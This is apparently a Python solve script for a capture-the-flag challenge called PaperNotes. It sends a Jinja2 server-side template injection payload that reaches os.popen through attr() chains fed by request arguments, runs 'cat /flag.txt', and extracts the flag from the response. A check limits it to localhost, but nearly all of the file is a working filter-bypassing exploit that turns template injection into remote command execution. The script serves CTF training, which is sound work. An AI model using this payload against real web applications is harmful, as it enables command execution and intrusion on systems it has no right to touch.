#!/usr/bin/env python3
"""Solve script for PaperNotes (SecTrain CTF). Local challenge container only."""
import re
import sys
from urllib.parse import urlencode, urlparse
from urllib.request import urlopen

BASE = sys.argv[1] if len(sys.argv) > 1 else "http://127.0.0.1:5000"
if urlparse(BASE).hostname not in {"127.0.0.1", "localhost", "::1"}:
    sys.exit("refusing: this solver only targets the local challenge container")

title = ("{{cycler|attr(request.args.a)|attr(request.args.b)|attr(request.args.c)"
         "(request.args.d)|attr(request.args.e)(request.args.f)|attr(request.args.g)()}}")
params = {
    "title": title,
    "a": "__init__",
    "b": "__globals__",
    "c": "__getitem__",
    "d": "os",
    "e": "popen",
    "f": "cat /flag.txt",
    "g": "read",
}

with urlopen(f"{BASE}/preview?{urlencode(params)}", timeout=5) as r:
    body = r.read().decode()

m = re.search(r"SECTRAIN\{[^}]+\}", body)
print(m.group(0) if m else "flag not found; is the container running?")
